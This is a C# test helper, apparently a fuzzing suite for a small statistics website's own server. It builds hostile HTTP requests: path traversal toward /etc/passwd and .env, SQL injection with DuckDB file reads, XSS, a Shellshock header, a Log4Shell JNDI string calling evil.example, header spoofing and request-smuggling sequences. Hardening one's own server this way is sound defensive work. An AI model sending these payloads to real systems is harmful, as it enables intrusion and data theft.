using System.Globalization;
using System.Text;

namespace Peelian.Tests;

/// <summary>Requests that look for a way in: written by hand from what servers have fallen for, and made at random, the same each time.</summary>
static class HostileRequests
{
    static readonly string[] Ups =
    [
        "../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%2e%2e%5c", "..\\", "%252e%252e%252f", "..%252f", "%c0%ae%c0%ae/", "%c0%af", "..%c0%af", "%e0%80%ae%e0%80%ae/", "%uff0e%uff0e/", "%ef%bc%8e%ef%bc%8e%ef%bc%8f",
        "....//", "..;/", ".%00./", "..%00/", "..%0d%0a/", "/%5c../", "//../", "./../", "%2e/%2e%2e/",
    ];

    static readonly string[] Wanted =
    [
        "etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "store.json", "the store/store.json", "the%20store/store.json", "Peelian.App.dll", "catalogue/areas.csv", "planted-secret.csv", "snapshots", ".git/config", ".env", "appsettings.json", "web.config", "warehouse.duckdb",
    ];

    static readonly string[] Before = ["/", "/areas/", "/areas/barnet/", "/areas/barnet/data/", "/packs/", "/packs/borough/barnet/", "/measures/burglary/data/", "/templates/", "/methods/", "/compare/"];

    static readonly string[] Values =
    [
        "'", "''", "\"", "%27%20or%201=1--", "%27;drop%20table%20observation;--", "1;attach%20'/etc/passwd'", "%27%20union%20select%20*%20from%20read_text(%27/etc/passwd%27)--", "read_csv('/etc/passwd')", "{{7*7}}", "${7*7}", "@(1+1)", "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
        "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "javascript:alert(1)", "%00", "%0d%0aSet-Cookie:%20a=b", "%E2%80%AE", "%F0%9F%92%A9", "%ff%fe", "%ED%A0%80", "../../etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "//evil.example", "http://evil.example/", "file:///etc/passwd", "%s%s%s%n", "NaN", "-1", "99999999999999999999", "true", "__proto__", "[]", "%5B%24ne%5D=1", "barnet", "burglary",
        "Ⅷ", "ß", "ﬁ", "İ", "a%CC%81", "%C0%80", "%25", "%", "%zz", "+", "%20",
    ];

    static readonly string[] Methods = ["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PATCH", "PROPFIND", "MOVE", "get", "G\0ET", "GETGETGETGETGETGETGETGETGETGETGETGET", "", " ", "ГЕТ", "DEBUG", "TRACK"];

    static readonly string[] Headers =
    [
        "Accept: */*;q=banana", "Accept: " + "a/b,", "Accept-Encoding: gzip;q=-1, *;q=9e999", "Accept-Encoding: gzip;q=0", "Accept-Encoding: \u00ff\u00fe", "Accept-Encoding: br;q=1, ,,,;;;", "If-None-Match: *", "If-None-Match: W/", "If-None-Match: \"", "If-None-Match: \"a\", W/\"b\", c", "If-None-Match: \"\u0001\"",
        "If-Modified-Since: yesterday", "If-Modified-Since: Sat, 31 Feb 9999 99:99:99 GMT", "Range: bytes=0-", "Range: bytes=-1", "Range: bytes=9-1,0-0,5-5", "Range: bytes=0-0,0-0,0-0,0-0,0-0,0-0", "Range: lines=1-2", "Range: bytes=99999999999999999999-", "Content-Length: 5", "Content-Length: -1", "Content-Length: 99999999999", "Content-Length: a", "Transfer-Encoding: chunked", "Transfer-Encoding: chunked, identity",
        "Expect: 100-continue", "Expect: nothing", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "X-Forwarded-For: ' or 1=1--", "X-Forwarded-For: 127.0.0.1", "X-Forwarded-Host: evil.example", "X-Forwarded-Proto: javascript", "X-Original-URL: /etc/passwd", "X-Rewrite-URL: /../../etc/passwd", "X-HTTP-Method-Override: DELETE",
        "Host: evil.example", "Host: ", "Host: a b", "Cookie: a=b; c=<script>", "Authorization: Basic cm9vdDpyb290", "Accept-Language: ../../etc/passwd", "User-Agent: () { :;}; cat /etc/passwd", "User-Agent: ${jndi:ldap://evil.example/a}", "Referer: http://evil.example/", "Origin: null", "Content-Type: application/xml", " folded: yes", "NoColon", "Bad Name: x", ": empty", "X: \0", "X: \n injected: yes",
    ];

    static byte[] Bytes(string text) => Encoding.Latin1.GetBytes(text);

    static byte[] Get(string target, string method = "GET", string headers = "", string version = "HTTP/1.1", string body = "") =>
        Bytes($"{method} {target} {version}\r\nHost: here\r\nConnection: close\r\n{headers}{(headers.Length > 0 ? "\r\n" : "")}\r\n{body}");

    /// <summary>Those written by hand, each with each of what it goes with.</summary>
    public static IEnumerable<byte[]> ByHand()
    {
        for (var at = 0; at < Ups.Length * Wanted.Length; at++)
            yield return Get(Before[at % Before.Length] + string.Concat(Enumerable.Repeat(Ups[at % Ups.Length], 1 + at % 9)) + Wanted[at / Ups.Length]);
        foreach (var value in Values)
        {
            foreach (var target in (string[])["/areas.html?q=", "/compare.html?measure=", "/compare.html?measure=burglary&area=", "/compare.html?measure=burglary&area=barnet&as=", "/", "/areas/", "/?", "/areas/barnet.html?"])
                yield return Bytes($"GET {target}{value} HTTP/1.1\r\nHost: here\r\nConnection: close\r\n\r\n");
        }
        foreach (var method in Methods)
            yield return Get("/areas/barnet.html", method);
        foreach (var header in Headers.SelectMany(header => (string[])[header, header + "\r\n" + header]))
            yield return Get("/areas/barnet.csv", headers: header);
        foreach (var one in Large().Concat(Odd()))
            yield return one;
    }

    static IEnumerable<byte[]> Large()
    {
        foreach (var count in (int[])[100, 1_000, 10_000])
        {
            yield return Get("/compare.html?" + string.Join('&', Enumerable.Range(0, count).Select(number => $"area={number.ToString(CultureInfo.InvariantCulture)}")));
            yield return Get("/compare.html?measure=burglary&" + string.Join('&', Enumerable.Repeat("measure=burglary", count)) + "&area=barnet");
            yield return Get("/compare.html?" + new string('&', count));
            yield return Get("/areas.html?q=" + new string('a', count));
            yield return Get("/" + new string('a', count));
            yield return Get("/" + string.Concat(Enumerable.Repeat("a/", count)));
            yield return Get("/areas/" + string.Concat(Enumerable.Repeat("../", count)) + "etc/passwd");
            yield return Get("/" + string.Concat(Enumerable.Repeat("%2e%2e%2f", count)));
            yield return Get("/", headers: "X-Large: " + new string('a', count * 10));
            yield return Get("/", headers: string.Join("\r\n", Enumerable.Range(0, count).Select(number => $"X-{number.ToString(CultureInfo.InvariantCulture)}: a")));
            yield return Get("/", headers: "If-None-Match: " + string.Join(',', Enumerable.Repeat("\"abc\"", count)));
            yield return Get("/", headers: "Accept-Encoding: " + string.Join(',', Enumerable.Repeat("gzip;q=0.1", count)));
            yield return Get("/", headers: "Range: bytes=" + string.Join(',', Enumerable.Repeat("0-1", count)));
            yield return Get("/", "POST", "Content-Length: " + count.ToString(CultureInfo.InvariantCulture), body: new string('x', count));
            yield return Get("/", new string('G', count));
        }
    }

    static IEnumerable<byte[]> Odd() =>
    [
        .. ((string[])["http://here/areas/barnet.html", "http://evil.example/etc/passwd", "https://here:99999/", "http://here/../../etc/passwd", "file:///etc/passwd", "//evil.example/", "*", "here:443", "areas/barnet.html", "?", "#", "/#a", "/areas/barnet.html#<script>", "/areas/BARNET.HTML", "/areas/barnet.html.", "/areas/barnet.html%20", "/areas/barnet.html::$DATA", "/areas/barnet.html;a=b", "/areas/barnet", "/areas//barnet.html", "/./areas/./barnet.html", "/index.html/../index.html", "/CON", "/nul", "/areas/%62arnet.html", "/areas/barnet%2ehtml", "/areas%2fbarnet.html", "/areas/barnet.html%00.csv", "/%", "/%1", "/%zz", "/\u00e4\u00f6\u00fc", "/\t", "/a b"]).Select(target => Get(target)),
        Get("/", version: "HTTP/0.9"), Get("/", version: "HTTP/1.0"), Get("/", version: "HTTP/2.0"), Get("/", version: "HTTP/9.9"), Get("/", version: "HTTPS"), Get("/", version: ""),
        Bytes("GET /\r\n\r\n"), Bytes("GET\r\n\r\n"), Bytes("\r\n\r\n\r\n"), Bytes(""), Bytes("GET / HTTP/1.1\r\n\r\n"), Bytes("GET / HTTP/1.1\nHost: here\nConnection: close\n\n"), Bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3],
        Bytes("GET / HTTP/1.1\r\nHost: here\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nG"),
        Bytes("POST / HTTP/1.1\r\nHost: here\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nffffffffffffffff\r\n"),
        Bytes("GET / HTTP/1.1\r\nHost: here\r\n\r\nGET /etc/passwd HTTP/1.1\r\nHost: here\r\n\r\nGET /areas/barnet.html HTTP/1.1\r\nHost: here\r\nConnection: close\r\n\r\n"),
    ];

    /// <summary>Made at random from addresses of the site, the pieces above and bytes of no meaning.</summary>
    /// <param name="count">How many.</param>
    /// <param name="known">Addresses of the site.</param>
    public static IEnumerable<byte[]> Made(int count, IReadOnlyList<string> known)
    {
        var random = new Random(1829);
        T One<T>(IReadOnlyList<T> all) => all[random.Next(all.Count)];
        string Noise(int most) => string.Create(random.Next(most), random, (letters, made) =>
        {
            for (var at = 0; at < letters.Length; at++)
                letters[at] = (char)made.Next(256);
        });
        string Spoilt(string path)
        {
            var at = random.Next(path.Length + 1);
            return random.Next(5) switch
            {
                0 => path.Insert(at, One(Ups)),
                1 => path.Insert(at, One(Values)),
                2 => path[..at] + (at < path.Length ? string.Create(CultureInfo.InvariantCulture, $"%{(int)path[at]:x2}") + path[(at + 1)..] : ""),
                3 => path.Insert(at, Noise(4)),
                _ => path[..at],
            };
        }
        for (var made = 0; made < count; made++)
        {
            var target = "/" + One(known);
            for (var times = random.Next(4); times > 0; times--)
                target = Spoilt(target);
            if (random.Next(3) == 0)
                target += "?" + string.Join('&', Enumerable.Range(0, random.Next(12)).Select(_ => $"{One(["measure", "area", "as", "q", One(Values)])}={One(Values)}"));
            var headers = string.Join("\r\n", Enumerable.Range(0, random.Next(3)).Select(_ => random.Next(8) == 0 ? Noise(40) : One(Headers)));
            var request = Get(target, random.Next(10) == 0 ? One(Methods) : random.Next(10) == 0 ? "HEAD" : "GET", headers);
            // Now and then bytes are changed wherever they stand.
            for (var times = random.Next(12) - 8; times > 0; times--)
                request[random.Next(request.Length)] = (byte)random.Next(256);
            yield return request;
        }
    }
}
